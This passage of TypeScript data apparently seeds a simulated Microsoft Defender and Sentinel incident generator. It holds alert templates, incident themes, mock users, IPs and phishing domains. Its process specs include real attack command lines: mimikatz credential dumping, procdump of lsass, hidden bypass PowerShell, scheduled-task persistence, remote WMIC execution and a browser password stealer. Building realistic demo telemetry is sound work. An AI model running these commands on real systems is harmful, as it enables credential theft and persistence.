    key: 'sn-keyvault-mass',
    source: SENTINEL,
    title: 'Mass secret retrieval from Azure Key Vault',
    categories: ['CredentialAccess'],
    mitre: ['T1555'],
    detection: 'nrtAlerts',
    severity: 'low',
    evidence: ['user', 'ip'],
    description: 'Near-real-time rule: one caller retrieved many secrets from a key vault.',
  },
  {
    key: 'sn-password-reset',
    source: SENTINEL,
    title: 'Multiple Password Reset by user',
    categories: ['InitialAccess', 'CredentialAccess'],
    mitre: ['T1078', 'T1098'],
    detection: 'scheduledAlerts',
    severity: 'low',
    evidence: ['user', 'user', 'user'],
    description: 'Analytics rule: one user reset the passwords of many accounts.',
  },
  {
    key: 'sn-rare-ops',
    source: SENTINEL,
    title: 'Rare subscription-level operations in Azure',
    categories: ['CredentialAccess', 'Persistence'],
    mitre: ['T1003', 'T1098'],
    detection: 'scheduledAlerts',
    severity: 'informational',
    evidence: ['user', 'ip'],
    description:
      'Analytics rule: sensitive subscription-level operations rarely performed by this caller.',
  },
  {
    key: 'sn-fortinet-beacon',
    source: SENTINEL,
    title: 'Potential beaconing activity (Fortinet)',
    categories: ['CommandAndControl'],
    mitre: ['T1071', 'T1571'],
    detection: 'scheduledAlerts',
    severity: 'low',
    evidence: ['device', 'ip', 'url'],
    description:
      'Analytics rule: periodic connections from an internal host to the same external address.',
  },

  // ------------------------------------------------------------ Insider Risk Management
  {
    key: 'irm-departing-leak',
    source: IRM,
    title: 'Data leaks by departing users',
    categories: ['Exfiltration'],
    mitre: ['T1567'],
    detection: 'microsoftInsiderRiskManagement',
    severity: 'medium',
    evidence: ['user', 'file', 'cloudApplication'],
    files: ['roadmap', 'sourceZip'],
    policy: true,
    description: 'A user with a resignation date shared or downloaded sensitive files.',
  },
  {
    key: 'irm-departing-theft',
    source: IRM,
    title: 'Data theft by departing users',
    categories: ['Exfiltration'],
    mitre: ['T1052', 'T1567.002'],
    detection: 'microsoftInsiderRiskManagement',
    severity: 'high',
    evidence: ['user', 'file', 'device', 'cloudApplication'],
    files: ['customerList', 'sourceZip'],
    policy: true,
    description: 'A departing user copied sensitive files to USB and to personal cloud storage.',
  },
  {
    key: 'irm-general-leak',
    source: IRM,
    title: 'General data leaks',
    categories: ['Exfiltration'],
    mitre: ['T1567'],
    detection: 'microsoftInsiderRiskManagement',
    severity: 'low',
    evidence: ['user', 'file'],
    files: ['payroll', 'customerList'],
    policy: true,
    description: 'A user shared files labelled Confidential outside the organization.',
  },
  {
    key: 'irm-security-violation',
    source: IRM,
    title: 'Security policy violations by priority users',
    categories: ['DefenseEvasion'],
    mitre: ['T1562.001'],
    detection: 'microsoftInsiderRiskManagement',
    severity: 'medium',
    evidence: ['user', 'device'],
    policy: true,
    description: 'A priority user disabled security software on their device.',
  },

  // ------------------------------------------------------------ Defender XDR
  {
    key: 'xdr-url-clicked',
    source: XDR,
    title: 'Suspicious URL clicked',
    categories: ['InitialAccess'],
    mitre: ['T1566.002'],
    detection: 'microsoft365Defender',
    severity: 'high',
    evidence: ['user', 'url', 'device', 'mailbox'],
    incidentTags: ['Credential Phish'],
    description: 'A user clicked a URL that leads to a credential phishing page.',
  },
  {
    key: 'xdr-aitm',
    source: XDR,
    title: 'Possible AiTM phishing attempt',
    categories: ['CredentialAccess'],
    mitre: ['T1557', 'T1539'],
    detection: 'microsoft365Defender',
    severity: 'high',
    evidence: ['user', 'url', 'ip'],
    incidentTags: ['Credential Phish'],
    description:
      'A sign-in session was proxied through an adversary-in-the-middle phishing kit, which can steal the session cookie and bypass MFA.',
  },
  {
    key: 'xdr-bec',
    source: XDR,
    title: 'Possible BEC financial fraud',
    categories: ['SuspiciousActivity'],
    mitre: ['T1534', 'T1114.003'],
    detection: 'microsoft365Defender',
    severity: 'high',
    evidence: ['user', 'mailbox', 'ip', 'cloudApplication'],
    incidentTags: ['BEC Fraud'],
    description:
      'A compromised mailbox sent payment-change requests to the finance team after hiding replies with inbox rules.',
  },
  {
    key: 'xdr-hok',
    source: XDR,
    title: 'Hands-on-keyboard attack involving multiple devices',
    categories: ['LateralMovement'],
    mitre: ['T1021', 'T1570'],
    detection: 'microsoft365Defender',
    severity: 'high',
    evidence: ['device', 'device', 'user', 'process'],
    processes: ['psexec'],
    incidentTags: ['Ransomware'],
    description: 'An attacker is interactively moving between devices with stolen credentials.',
  },
  {
    key: 'xdr-storm',
    source: XDR,
    title: 'Storm-0501 activity group detected',
    categories: ['Ransomware'],
    mitre: ['T1486', 'T1021.002'],
    detection: 'microsoft365Defender',
    severity: 'high',
    evidence: ['device', 'user', 'file', 'ip'],
    files: ['lockbitExe'],
    actor: 'Storm-0501',
    incidentTags: ['Ransomware'],
    description:
      'Activity matches the tools and techniques of Storm-0501, a ransomware-as-a-service affiliate.',
  },
  {
    key: 'xdr-contain',
    source: XDR,
    title: 'User account compromise identified from ransomware activity',
    categories: ['Ransomware'],
    mitre: ['T1078'],
    detection: 'automatedInvestigation',
    severity: 'high',
    evidence: ['user', 'device'],
    incidentTags: ['Attack disruption', 'Ransomware'],
    description:
      'Automatic attack disruption contained this user account because it was used in ransomware activity.',
  },
  {
    key: 'xdr-experts',
    source: XDR,
    prefix: 'ta',
    title: 'Defender Experts: suspicious activity in your network',
    categories: ['SuspiciousActivity'],
    mitre: ['T1078'],
    detection: 'microsoftThreatExperts',
    severity: 'high',
    evidence: ['device', 'user', 'process'],
    processes: ['powershellEncoded'],
    incidentTags: ['Defender Experts'],
    description: 'Microsoft Defender Experts identified activity that needs your attention.',
  },
  {
    key: 'xdr-custom-mfa',
    source: XDR,
    prefix: 'ea',
    title: 'Excessive MFA push notifications denied (custom detection)',
    categories: ['CredentialAccess'],
    mitre: ['T1621'],
    detection: 'customDetection',
    severity: 'medium',
    evidence: ['user', 'ip'],
    description: 'Custom detection rule: a user denied many MFA push notifications within an hour.',
  },
];

type ThemeKey =
  | 'endpoint'
  | 'ransomware'
  | 'phishing'
  | 'bec'
  | 'identity'
  | 'cloudApps'
  | 'dataLoss'
  | 'insider'
  | 'cloudInfra'
  | 'sentinel';

/** How an incident's alerts hang together: the templates it starts and continues with. */
export type Theme = {
  key: ThemeKey;
  weight: number;
  entry: readonly string[];
  more: readonly string[];
  /** Pool sizes [min, max] of the entities its alerts share. */
  devices: readonly [number, number];
  users: readonly [number, number];
  mailboxes: readonly [number, number];
  ips: readonly [number, number];
  /** Determinations when classified as a true positive. */
  determinations: readonly AlertDetermination[];
  customTags: readonly string[];
  description: string;
  /** Analyst names; {host}, {user} and {dept} are filled in from the incident. */
  customNames: readonly string[];
  comments: readonly string[];
};

export const THEMES: readonly Theme[] = [
  {
    key: 'endpoint',
    weight: 30,
    entry: [
      'mde-powershell',
      'mde-hidden-file',
      'mde-wacatac',
      'mde-emotet',
      'mde-pua',
      'mde-office-child',
      'mde-sched-task',
      'mde-custom-ioc',
      'mde-browser-creds',
      'mde-custom-rmm',
      'mde-miner',
      'mde-account-lookups',
    ],
    more: [
      'mde-powershell',
      'mde-sched-task',
      'mde-account-lookups',
      'mde-lsass',
      'mde-mimikatz',
      'mde-remote-activity',
      'mde-hollowing',
      'mde-cobalt',
      'mde-custom-ioc',
      'mde-browser-creds',
      'mdi-enum',
      'mdi-ptt',
      'xdr-experts',
      'mdo-zap-malware',
    ],
    devices: [1, 3],
    users: [1, 2],
    mailboxes: [1, 1],
    ips: [1, 2],
    determinations: ['malware', 'unwantedSoftware', 'multiStagedAttack', 'other'],
    customTags: ['Escalated', 'VIP', 'Demo', 'Red team'],
    description:
      'Suspicious activity on endpoints: execution of scripts and tools commonly used by attackers after initial access.',
    customNames: [
      'Cobalt Strike beacon on {host} — contained',
      'Suspicious PowerShell on {host} (helpdesk script?)',
      'Malware outbreak in {dept} — IR engaged',
    ],
    comments: [
      'Isolated the device and started a full antivirus scan.',
      'Collected the investigation package from the device.',
      'Script matches a known helpdesk tool? Checking with IT before closing.',
      'Hash submitted for deep analysis; verdict malicious.',
      'IOC added to custom indicators with action Block and remediate.',
    ],
  },
  {
    key: 'ransomware',
    weight: 4,
    entry: ['mde-cobalt', 'mde-custom-rmm', 'mdi-kerberoast', 'xdr-hok', 'mde-powershell'],
    more: [
      'mde-lsass',
      'mde-mimikatz',
      'mde-remote-activity',
      'mde-vss-delete',
      'mde-ransom-fs',
      'mde-lockbit',
      'mdi-dcsync',
      'mdi-ptt',
      'xdr-hok',
      'xdr-storm',
      'xdr-contain',
      'mdca-ransomware',
    ],
    devices: [2, 4],
    users: [1, 3],
    mailboxes: [1, 1],
    ips: [1, 2],
    determinations: ['multiStagedAttack', 'malware'],
    customTags: ['Ransomware', 'Escalated', 'VIP'],
    description:
      'Human-operated ransomware: credential theft, lateral movement and encryption across several devices.',
    customNames: [
      'Ransomware on {host} — escalated to IR',
      'LockBit precursor activity on {host}',
      'Major incident: ransomware in {dept}',
    ],
    comments: [
      'Attack disruption contained the compromised account; verifying scope.',
      'Bridge opened with the IR team; all affected devices isolated.',
      'Backups confirmed intact for the file servers.',
      'krbtgt reset scheduled twice, 12 hours apart.',
    ],
  },
  {
    key: 'phishing',
    weight: 17,
    entry: ['mdo-zap-url', 'mdo-campaign', 'mdo-user-reported', 'mdo-zap-malware', 'mdo-url-click'],
    more: [
      'mdo-zap-url',
      'mdo-url-click',
      'mdo-campaign',
      'xdr-url-clicked',
      'xdr-aitm',
      'entra-unfamiliar',
      'entra-anomalous-token',
      'mde-office-child',
      'mde-emotet',
      'appgov-consent',
    ],
    devices: [0, 1],
    users: [1, 3],
    mailboxes: [1, 6],
    ips: [1, 2],
    determinations: ['phishing', 'compromisedAccount', 'malware'],
    customTags: ['Phishing campaign', 'VIP', 'Demo'],
    description:
      'Phishing emails delivered to several mailboxes; some recipients clicked the link before the messages were purged.',
    customNames: [
      'Phishing campaign targeting {dept} — wave 2',
      'Invoice-themed phish hitting {dept}',
      'Credential phish: {user} clicked',
    ],
    comments: [
      'Soft-deleted the remaining copies of the message from all mailboxes.',
      'Blocked the sender domain and the URL in the Tenant Allow/Block List.',
      'User confirmed they entered their password on the page; password reset and sessions revoked.',
      'No clicks found in Threat Explorer for the other recipients.',
    ],
  },
  {
    key: 'bec',
    weight: 4,
    entry: ['xdr-aitm', 'entra-unfamiliar', 'mdo-url-click', 'entra-anomalous-token'],
    more: [
      'mdca-inbox-rule',
      'mdca-forwarding',
      'xdr-bec',
      'mdo-sending-patterns',
      'mdo-restricted',
      'entra-anomalous-token',
      'mdca-impossible-travel',
      'appgov-graph-mail',
    ],
    devices: [0, 1],
    users: [1, 2],
    mailboxes: [1, 2],
    ips: [1, 3],
    determinations: ['compromisedAccount', 'phishing', 'multiStagedAttack'],
    customTags: ['VIP', 'Escalated', 'Phishing campaign'],
    description:
      'Business email compromise: a mailbox was taken over after a phishing sign-in and used to redirect payments.',
    customNames: [
      'BEC attempt against {user} — finance',
      'Payment fraud attempt from {user} mailbox',
    ],
    comments: [
      'Finance confirmed no payment was made to the new account.',
      'Removed the forwarding and inbox rules; revoked all refresh tokens.',
      'Notified the vendor whose thread was hijacked.',
    ],
  },
  {
    key: 'identity',
    weight: 12,
    entry: [
      'mdi-enum',
      'mdi-bruteforce',
      'entra-unfamiliar',
      'entra-atypical',
      'entra-anon-ip',
      'entra-password-spray',
      'entra-leaked',
      'xdr-custom-mfa',
    ],
    more: [
      'mdi-kerberoast',
      'mdi-dcsync',
      'mdi-ptt',
      'mdi-opth',
      'mdi-sensitive-groups',
      'mdi-remote-exec',
      'entra-unfamiliar',
      'entra-atypical',
      'entra-anomalous-token',
      'mde-lsass',
      'mde-account-lookups',
    ],
    devices: [0, 3],
    users: [1, 3],
    mailboxes: [1, 1],
    ips: [1, 3],
    determinations: ['compromisedAccount', 'multiStagedAttack', 'maliciousUserActivity'],
    customTags: ['VIP', 'Escalated', 'Red team'],
    description:
      'Identity attack: suspicious sign-ins and directory reconnaissance against user and service accounts.',
    customNames: [
      'Possible DCSync from {host}',
      'Compromised account {user} — password reset done',
      'Password spray from TOR against {dept}',
    ],
    comments: [
      'User confirmed they were not travelling; account disabled pending reset.',
      'The scanner account belongs to the vulnerability management team — expected.',
      'Sessions revoked and MFA re-registration required.',
      'Source IP is a known VPN egress of a partner; checking with them.',
    ],
  },
  {
    key: 'cloudApps',
    weight: 9,
    entry: [
      'mdca-impossible-travel',
      'mdca-infrequent-country',
      'mdca-tor',
      'mdca-mass-download',
      'appgov-overprivileged',
      'appgov-exo-spike',
      'mdca-vm-delete',
    ],
    more: [
      'mdca-mass-download',
      'mdca-forwarding',
      'mdca-inbox-rule',
      'appgov-graph-mail',
      'appgov-consent',
      'entra-unfamiliar',
      'mdca-impossible-travel',
    ],
    devices: [0, 0],
    users: [1, 2],
    mailboxes: [1, 1],
    ips: [1, 3],
    determinations: ['compromisedAccount', 'maliciousUserActivity', 'other'],
    customTags: ['VIP', 'Demo'],
    description:
      'Unusual activity in cloud apps: sign-ins from new locations and bulk data access.',
    customNames: ['Impossible travel for {user} — VPN?', 'Rogue OAuth app consented by {user}'],
    comments: [
      'Activity came from the corporate VPN exit in Frankfurt — expected.',
      'App disabled in Entra ID and consent revoked.',
      'User suspended in Defender for Cloud Apps until we talk to them.',
    ],
  },
  {
    key: 'dataLoss',
    weight: 7,
    entry: ['dlp-shared-externally', 'dlp-email-cc', 'dlp-usb', 'dlp-personal-cloud'],
    more: [
      'dlp-shared-externally',
      'dlp-email-cc',
      'dlp-usb',
      'dlp-personal-cloud',
      'mdca-mass-download',
      'irm-general-leak',
    ],
    devices: [0, 1],
    users: [1, 2],
    mailboxes: [1, 2],
    ips: [0, 1],
    determinations: ['maliciousUserActivity', 'other'],
    customTags: ['PCI', 'VIP', 'Escalated'],
    description:
      'Sensitive information left the organization through sharing, email or removable media.',
    customNames: ['PCI data shared externally by {user}', 'Customer list on USB — {dept}'],
    comments: [
      'External sharing link removed; owner informed.',
      'The recipient is our payment processor — approved business flow.',
      'Manager and privacy office informed.',
    ],
  },
  {
    key: 'insider',
    weight: 3,
    entry: ['irm-departing-leak', 'irm-general-leak', 'irm-security-violation'],
    more: [
      'irm-departing-theft',
      'irm-departing-leak',
      'dlp-usb',
      'dlp-personal-cloud',
      'mdca-mass-download',
    ],
    devices: [0, 1],
    users: [1, 1],
    mailboxes: [1, 1],
    ips: [0, 1],
    determinations: ['maliciousUserActivity', 'other'],
    customTags: ['VIP', 'Escalated'],
    description: 'A departing employee accessed and moved an unusual volume of sensitive data.',
    customNames: ['Departing employee {user} — HR case open', 'Insider risk: {user} ({dept})'],
    comments: [
      'HR confirmed the user resigned last week.',
      'Legal asked us to preserve the evidence; case opened in Insider Risk Management.',
    ],
  },
  {
    key: 'cloudInfra',
    weight: 6,
    entry: [
      'mdc-ssh-bruteforce',
      'mdc-storage-tor',
      'mdc-keyvault',
      'mdc-arm-exec',
      'mdc-download-run',
    ],
    more: [
      'mdc-download-run',
      'mdc-miner',
      'mdc-keyvault',
      'mdc-arm-exec',
      'mdca-vm-delete',
      'mde-miner',
    ],
    devices: [1, 2],
    users: [0, 1],
    mailboxes: [1, 1],
    ips: [1, 3],
    determinations: ['malware', 'compromisedAccount', 'other'],
    customTags: ['Demo', 'Escalated'],
    description:
      'Attack on Azure resources: brute force against exposed VMs and unusual access to secrets.',
    customNames: ['Crypto-miner on {host}', 'Exposed SSH on {host} — NSG fixed'],
    comments: [
      'NSG rule tightened; SSH no longer open to the internet.',
      'Rotated the secrets in the key vault.',
      'VM reimaged from a clean image.',
    ],
  },
  {
    key: 'sentinel',
    weight: 0,
    entry: [
      'sn-portal-bruteforce',
      'sn-success-failure',
      'sn-ti-signin',
      'sn-port-scan',
      'sn-keyvault-mass',
      'sn-password-reset',
      'sn-rare-ops',
      'sn-fortinet-beacon',
    ],
    more: [
      'sn-portal-bruteforce',
      'sn-success-failure',
      'sn-ti-signin',
      'sn-port-scan',
      'sn-keyvault-mass',
      'sn-password-reset',
      'sn-rare-ops',
      'sn-fortinet-beacon',
    ],
    devices: [0, 2],
    users: [1, 2],
    mailboxes: [1, 1],
    ips: [1, 3],
    determinations: ['compromisedAccount', 'maliciousUserActivity', 'other'],
    customTags: ['Demo', 'Escalated'],
    description:
      'Alerts from Microsoft Sentinel analytics rules on sign-in, firewall and Azure activity logs.',
    customNames: ['Azure portal brute force — {user}', 'Beaconing from {host} (firewall logs)'],
    comments: [
      'Ran the hunting queries from the rule; no further hits.',
      'Watchlist updated with the partner IP ranges.',
      'Tuned the analytics rule threshold for the service account.',
    ],
  },
];

/** Templates a primary-workspace Sentinel incident may mix in (Sentinel-in-Defender correlation). */
export const SENTINEL_MIX = [
  'entra-unfamiliar',
  'entra-atypical',
  'mde-powershell',
  'mdca-impossible-travel',
];

export const GENERIC_CUSTOM_NAMES = [
  'Q3 red team exercise — do not escalate',
  'Tabletop demo incident for the SOC onboarding',
];

export const GENERIC_COMMENTS = [
  'Taking a look.',
  'Escalating to tier 2: needs a deeper look at the timeline.',
  'Waiting for the user to call back.',
  'Linked to change request CHG0041822.',
  'Checked the related alerts — same actor as last week.',
  'Handing over to the night shift.',
];

export const RESOLVING_COMMENTS: Record<string, readonly string[]> = {
  truePositive: [
    'Contained and remediated. Affected accounts reset, devices reimaged.',
    'Confirmed malicious; indicators blocked tenant-wide. Closing.',
    'Threat removed by automated investigation; verified no persistence remains.',
  ],
  informationalExpectedActivity: [
    'Authorized red team exercise (ticket RT-2026-04).',
    'Approved line-of-business tool used by the IT team.',
    'User confirmed the activity; expected for their role.',
  ],
  falsePositive: [
    'Detection triggered by a legitimate backup agent. Tuning requested.',
    'Not enough data to validate; no further signs of compromise.',
    'Benign: the URL was rewritten by our own mail gateway.',
  ],
};

/** Incidents' custom tags outside any theme. */
export const EXTRA_CUSTOM_TAGS = ['Demo', 'VIP', 'Escalated'];

// ------------------------------------------------------------------ the tenant's assets

export const DEPARTMENTS = [
  { code: 'FIN', name: 'Finance', group: 'Finance devices', groupId: 41 },
  { code: 'HR', name: 'HR', group: 'HR devices', groupId: 42 },
  { code: 'ENG', name: 'Engineering', group: 'Engineering workstations', groupId: 43 },
  { code: 'MKT', name: 'Marketing', group: 'Marketing devices', groupId: 44 },
  { code: 'SALES', name: 'Sales', group: 'Sales devices', groupId: 45 },
  { code: 'EXEC', name: 'Executives', group: 'Executives', groupId: 46 },
  { code: 'IT', name: 'IT', group: 'IT admin workstations', groupId: 47 },
  { code: 'LEGAL', name: 'Legal', group: 'Legal devices', groupId: 48 },
] as const;

export const WORKSTATION_KINDS = [
  { kind: 'LAPTOP', os: 'Windows11', build: 22631, version: '23H2', weight: 45 },
  { kind: 'LAPTOP', os: 'Windows11', build: 26100, version: '24H2', weight: 20 },
  { kind: 'DESKTOP', os: 'Windows10', build: 19045, version: '22H2', weight: 20 },
  { kind: 'MBP', os: 'macOS', build: null, version: '14.6', weight: 10 },
  { kind: 'VDI', os: 'Windows10', build: 19045, version: '22H2', weight: 5 },
] as const;

export const SERVER_KINDS = [
  { name: 'DC', os: 'WindowsServer2022', build: 20348, version: '21H2', critical: true },
  { name: 'SRV-SQL', os: 'WindowsServer2019', build: 17763, version: '1809', critical: true },
  { name: 'SRV-FILE', os: 'WindowsServer2022', build: 20348, version: '21H2', critical: true },
  { name: 'SRV-APP', os: 'WindowsServer2019', build: 17763, version: '1809', critical: false },
  { name: 'WEB-PROD', os: 'Linux', build: null, version: 'Ubuntu 22.04', critical: false },
  { name: 'K8S-NODE', os: 'Linux', build: null, version: 'Ubuntu 22.04', critical: false },
] as const;

export const FIRST_NAMES = [
  'Adele',
  'Alex',
  'Allan',
  'Ben',
  'Camila',
  'Chen',
  'Christie',
  'Daniel',
  'Diego',
  'Elena',
  'Emily',
  'Fatima',
  'Grady',
  'Hana',
  'Henrietta',
  'Irvin',
  'Isaiah',
  'Johanna',
  'Joni',
  'Kenji',
  'Lee',
  'Lidia',
  'Lynne',
  'Megan',
  'Miriam',
  'Nestor',
  'Noah',
  'Olga',
  'Patti',
  'Pradeep',
  'Priya',
  'Rafael',
  'Sakura',
  'Sara',
  'Tomás',
  'Uma',
  'Victor',
  'Wei',
  'Yara',
  'Zoe',
];

export const LAST_NAMES = [
  'Adams',
  'Bauer',
  'Brown',
  'Castillo',
  'Chen',
  'Dubois',
  'Eriksen',
  'Fernández',
  'García',
  'Gupta',
  'Hansen',
  'Ito',
  'Jensen',
  'Kim',
  'Kowalski',
  'Larsen',
  'Lopez',
  'Meyer',
  'Müller',
  'Nakamura',
  'Novak',
  "O'Brien",
  'Patel',
  'Rossi',
  'Santos',
  'Schmidt',
  'Silva',
  'Singh',
  'Smith',
  'Tanaka',
  'Vance',
  'Wagner',
  'Walsh',
  'Wilber',
  'Wright',
  'Yamamoto',
  'Zhang',
];

/** Where attacks come from: IP prefixes with a place. */
export const ATTACK_ORIGINS = [
  {
    prefix: '185.220.101.',
    cc: 'DE',
    country: 'Germany',
    city: 'Frankfurt am Main',
    lat: 50.11,
    lon: 8.68,
  },
  { prefix: '45.155.205.', cc: 'RU', country: 'Russia', city: 'Moscow', lat: 55.75, lon: 37.62 },
  {
    prefix: '103.251.167.',
    cc: 'SG',
    country: 'Singapore',
    city: 'Singapore',
    lat: 1.29,
    lon: 103.85,
  },
  { prefix: '196.251.73.', cc: 'NG', country: 'Nigeria', city: 'Lagos', lat: 6.52, lon: 3.38 },
  {
    prefix: '154.47.30.',
    cc: 'NL',
    country: 'Netherlands',
    city: 'Amsterdam',
    lat: 52.37,
    lon: 4.9,
  },
  { prefix: '91.92.240.', cc: 'BG', country: 'Bulgaria', city: 'Sofia', lat: 42.7, lon: 23.32 },
  {
    prefix: '5.188.86.',
    cc: 'RU',
    country: 'Russia',
    city: 'Saint Petersburg',
    lat: 59.94,
    lon: 30.31,
  },
  { prefix: '139.59.23.', cc: 'IN', country: 'India', city: 'Bengaluru', lat: 12.97, lon: 77.59 },
  {
    prefix: '198.98.51.',
    cc: 'US',
    country: 'United States',
    city: 'Las Vegas',
    lat: 36.17,
    lon: -115.14,
  },
  {
    prefix: '179.43.128.',
    cc: 'CH',
    country: 'Switzerland',
    city: 'Zurich',
    lat: 47.37,
    lon: 8.54,
  },
  { prefix: '58.218.199.', cc: 'CN', country: 'China', city: 'Xuzhou', lat: 34.26, lon: 117.18 },
  {
    prefix: '177.54.144.',
    cc: 'BR',
    country: 'Brazil',
    city: 'São Paulo',
    lat: -23.55,
    lon: -46.63,
  },
] as const;

export const PHISH_DOMAINS = [
  'contoso-sharepoint-docs.com',
  'micros0ft-login.net',
  'secure-invoice-view.info',
  'office365-verify.co',
  'docusign-review.app',
  'contoso-hr-benefits.org',
  'payroll-update-portal.net',
];

export const PHISH_PATHS = [
  '/common/oauth2/authorize',
  '/invoice/view.html',
  '/shared/document.php',
  '/auth/login',
  '/benefits/2026/enroll',
];

export const CLOUD_APPS = [
  { appId: 20893, name: 'Microsoft Exchange Online' },
  { appId: 20892, name: 'Microsoft SharePoint Online' },
  { appId: 15600, name: 'Microsoft OneDrive for Business' },
  { appId: 28375, name: 'Microsoft Teams' },
  { appId: 12260, name: 'Microsoft Azure' },
  { appId: 11627, name: 'Dropbox' },
  { appId: 10489, name: 'Box' },
  { appId: 33626, name: 'Google Drive' },
  { appId: 40217, name: 'PDF Converter Pro (OAuth app)' },
  { appId: 40218, name: 'Mail Sync Helper (OAuth app)' },
];

export type FileSpec = {
  name: string;
  path: string;
  publisher: string | null;
  size: [number, number];
};

export type FileKey = keyof typeof FILES;
export type ProcessKey = keyof typeof PROCESSES;

export const FILES = {
  updatePs1: {
    name: 'update.ps1',
    path: 'C:\\Users\\Public\\Downloads',
    publisher: null,
    size: [2_000, 9_000],
  },
  hiddenDll: {
    name: 'wupd.dll',
    path: 'C:\\ProgramData\\Microsoft\\Crypto',
    publisher: null,
    size: [90_000, 400_000],
  },
  mimikatz: {
    name: 'mimikatz.exe',
    path: 'C:\\Users\\Public',
    publisher: null,
    size: [1_250_000, 1_360_000],
  },
  lsassDmp: {
    name: 'lsass.dmp',
    path: 'C:\\Windows\\Temp',
    publisher: null,
    size: [40_000_000, 90_000_000],
  },
  updExe: { name: 'upd.exe', path: 'C:\\ProgramData', publisher: null, size: [300_000, 900_000] },
  payloadDll: {
    name: 'payload.dll',
    path: 'C:\\Users\\Public\\Libraries',
    publisher: null,
    size: [200_000, 700_000],
  },
  loginData: {
    name: 'Login Data',
    path: 'C:\\Users\\%USER%\\AppData\\Local\\Google\\Chrome\\User Data\\Default',
    publisher: null,
    size: [40_000, 200_000],
  },
  beaconDll: {
    name: 'sysmon64.dll',
    path: 'C:\\Windows\\Temp',
    publisher: null,
    size: [260_000, 320_000],
  },
  invoiceExe: {
    name: 'Invoice_88231.pdf.exe',
    path: 'C:\\Users\\%USER%\\Downloads',
    publisher: null,
    size: [500_000, 1_500_000],
  },
  invoiceDocm: {
    name: 'Invoice_2026_0412.docm',
    path: 'C:\\Users\\%USER%\\Downloads',
    publisher: null,
    size: [60_000, 250_000],
  },
  browserHelper: {
    name: 'SearchHelper.exe',
    path: 'C:\\Program Files (x86)\\SearchHelper',
    publisher: 'Prifou Ltd',
    size: [800_000, 2_000_000],
  },
  ransomNote: {
    name: 'Restore-My-Files.txt',
    path: 'C:\\Shares\\Finance',
    publisher: null,
    size: [1_500, 3_000],
  },
  lockbitExe: {
    name: 'LB3.exe',
    path: 'C:\\Windows\\SysWOW64\\Tasks',
    publisher: null,
    size: [150_000, 170_000],
  },
  anydesk: {
    name: 'AnyDesk.exe',
    path: 'C:\\Users\\%USER%\\AppData\\Roaming',
    publisher: 'AnyDesk Software GmbH',
    size: [5_000_000, 6_000_000],
  },
  xmrig: {
    name: 'xmrig.exe',
    path: 'C:\\ProgramData\\svc',
    publisher: null,
    size: [6_000_000, 8_000_000],
  },
  xmrigLinux: { name: 'kdevtmpfsi', path: '/tmp', publisher: null, size: [2_000_000, 3_000_000] },
  customerList: {
    name: 'Customer_List_2026.xlsx',
    path: 'https://contoso.sharepoint.com/sites/Sales/Shared Documents',
    publisher: null,
    size: [400_000, 4_000_000],
  },
  payroll: {
    name: 'Payroll_Q1.xlsx',
    path: 'https://contoso.sharepoint.com/sites/Finance/Shared Documents',
    publisher: null,
    size: [200_000, 900_000],
  },
  roadmap: {
    name: 'Contoso_Product_Roadmap.pptx',
    path: 'https://contoso-my.sharepoint.com/personal/Documents',
    publisher: null,
    size: [3_000_000, 12_000_000],
  },
  cardExport: {
    name: 'card_export.csv',
    path: 'Email attachment',
    publisher: null,
    size: [20_000, 80_000],
  },
  sourceZip: {
    name: 'src_backup.zip',
    path: 'C:\\Users\\%USER%\\Documents',
    publisher: null,
    size: [50_000_000, 300_000_000],
  },
} satisfies Record<string, FileSpec>;

export type ProcessSpec = {
  image: string;
  path: string;
  commandLine: string;
  parent: string;
  parentPath: string;
  publisher: string | null;
};

export const PROCESSES = {
  powershellEncoded: {
    image: 'powershell.exe',
    path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
    commandLine:
      'powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA==',
    parent: 'cmd.exe',
    parentPath: 'C:\\Windows\\System32',
    publisher: 'Microsoft Corporation',
  },
  rundll32: {
    image: 'rundll32.exe',
    path: 'C:\\Windows\\System32',
    commandLine: 'rundll32.exe C:\\ProgramData\\Microsoft\\Crypto\\wupd.dll,DllRegisterServer',
    parent: 'explorer.exe',
    parentPath: 'C:\\Windows',
    publisher: 'Microsoft Corporation',
  },
  mimikatz: {
    image: 'mimikatz.exe',
    path: 'C:\\Users\\Public',
    commandLine: 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
    parent: 'cmd.exe',
    parentPath: 'C:\\Windows\\System32',
    publisher: null,
  },
  procdumpLsass: {
    image: 'procdump64.exe',
    path: 'C:\\Windows\\Temp',
    commandLine: 'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp',
    parent: 'cmd.exe',
    parentPath: 'C:\\Windows\\System32',
    publisher: 'Sysinternals - www.sysinternals.com',
  },
  schtasks: {
    image: 'schtasks.exe',
    path: 'C:\\Windows\\System32',
    commandLine:
      'schtasks /create /tn "OneDrive Standalone Update" /tr C:\\ProgramData\\upd.exe /sc minute /mo 30 /f',
    parent: 'powershell.exe',
    parentPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
    publisher: 'Microsoft Corporation',
  },
  netGroup: {
    image: 'net.exe',
    path: 'C:\\Windows\\System32',
    commandLine: 'net group "Domain Admins" /domain',
    parent: 'cmd.exe',
    parentPath: 'C:\\Windows\\System32',
    publisher: 'Microsoft Corporation',
  },
  wmicRemote: {
    image: 'WMIC.exe',
    path: 'C:\\Windows\\System32\\wbem',
    commandLine:
      'wmic /node:"SRV-APP-02" process call create "cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt"',
    parent: 'cmd.exe',
    parentPath: 'C:\\Windows\\System32',
    publisher: 'Microsoft Corporation',
  },
  svchostHollow: {
    image: 'svchost.exe',
    path: 'C:\\Windows\\SysWOW64',
    commandLine: 'C:\\Windows\\SysWOW64\\svchost.exe -k netsvcs',
    parent: 'rundll32.exe',
    parentPath: 'C:\\Windows\\System32',
    publisher: 'Microsoft Corporation',
  },
  browserStealer: {
    image: 'chromepass.exe',
    path: 'C:\\Users\\Public\\Music',
    commandLine: 'chromepass.exe /stext C:\\Users\\Public\\Music\\p.txt',
    parent: 'explorer.exe',
    parentPath: 'C:\\Windows',
    publisher: null,
  },
  winwordMacro: {
    image: 'cmd.exe',
    path: 'C:\\Windows\\System32',
    commandLine:
